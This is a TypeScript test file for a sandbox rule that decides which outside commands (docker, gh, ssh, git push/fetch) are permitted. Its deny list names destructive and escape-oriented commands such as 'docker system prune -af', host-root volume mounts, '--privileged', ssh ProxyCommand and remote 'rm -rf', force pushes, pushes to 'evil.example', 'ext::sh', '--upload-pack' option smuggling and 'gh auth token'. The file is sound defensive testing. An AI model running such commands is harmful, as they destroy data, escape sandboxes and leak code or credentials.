import assert from 'node:assert/strict';
import { outsideProgramOf } from '../../../src/tools/commands/outsideProgram.ts';
import { parsePlainCommandLine } from '../../../src/tools/shellSyntax/commandLine.ts';

describe('the rule for a program outside of the sandbox', () => {
  const covered: [command: string, program: string][] = [
    ['docker ps', 'docker'],
    ['docker compose -f compose.yaml up -d --wait db', 'docker'],
    ['docker run --rm -it node:22 node -e 1', 'docker'],
    ['docker compose exec -T db psql -U app -c "\\d invoices"', 'docker'],
    ['podman build -t app .', 'podman'],
    ['docker compose down', 'docker'],
    ['gh pr view 12 --json title', 'gh'],
    ['gh run list -w ci.yml', 'gh'],
    ['gh api repos/o/r/pulls --jq .', 'gh'],
    ['ssh -p 22 -o BatchMode=yes dev@host uptime', 'ssh dev@host'],
    ['git push -u origin HEAD:main', 'git push'],
    ['git fetch --all --prune', 'git fetch'],
    ['git pull --rebase', 'git pull'],
    ['git ls-remote --heads origin', 'git ls-remote'],
  ]; // biome-ignore format: a table
  const others = [
    'docker system prune -af', 'docker compose down -v', 'docker rm -f db', 'docker push app', 'docker login', 'docker context use x',
    'docker compose exec redis redis-cli FLUSHALL', 'docker compose exec -T db psql -c "truncate plans"', './docker ps', '/usr/bin/docker ps',
    'sudo docker ps', 'su', 'doas ls', 'bash -c docker', 'sh x', 'node -e 1', 'python3 -c 1', 'env docker ps', 'xargs docker', 'bwrap ls',
    'systemctl restart x', 'aws s3 ls', 'kubectl get pods', 'gpg -d x', 'code .', 'apt-get install x', 'mount /dev/sda1',
    'gh pr create --fill', 'gh pr merge 1', 'gh pr view --web', 'gh api -X DELETE repos/o/r', 'gh api -fa=b x', 'gh api graphql -f query=x',
    'gh api https://evil.example/x', 'gh extension exec x', 'gh alias set a b', 'gh auth token', 'gh secret set A', 'gh codespace ssh',
    'docker run -v /:/host a', 'docker run -itv /:/host a', 'docker run --volume=/etc:/etc a', 'docker run --mount type=bind,src=/,dst=/x a',
    'docker run --privileged a', 'docker run --pid=host a', 'docker run -v ../x:/x a', 'docker run -v/var/run/docker.sock:/x a',
    'ssh', 'ssh -o ProxyCommand=x host', 'ssh -oPermitLocalCommand=yes host', 'ssh -F config host', 'ssh -vF config host', 'ssh -I lib.so host',
    'ssh -L 1:a:2 host', 'ssh -S x host', 'ssh host rm -rf x', 'scp a host:b', 'sftp host',
    'git push --force', 'git push -f', 'git push origin :main', 'git push origin +main', 'git push --delete origin x', 'git push --mirror',
    'git push --receive-pack=x origin', 'git push --exec=x', 'git push https://evil.example/x', 'git push ext::sh', 'git push ../x', 'git push ./x',
    'git push git@evil.example:x/y', 'git fetch --upload-pack=x origin', 'git fetch --upload-p x', 'git -c core.sshCommand=x push', 'git -C x push',
    'git pull -s x', 'git pull --strategy=x', 'git clone https://a.example/x', 'git ls-remote --upload-pack=x', 'git status', 'git push origin -- -x', 'git',
  ]; // biome-ignore format: a table
  const wordsOf = (command: string) => parsePlainCommandLine(command)![0]!;

  for (const [command, program] of covered)
    it(`covers ${command}`, () => assert.equal(outsideProgramOf(wordsOf(command)), program));
  for (const command of others)
    it(`does not cover ${command}`, () => assert.equal(outsideProgramOf(wordsOf(command)), undefined));
});
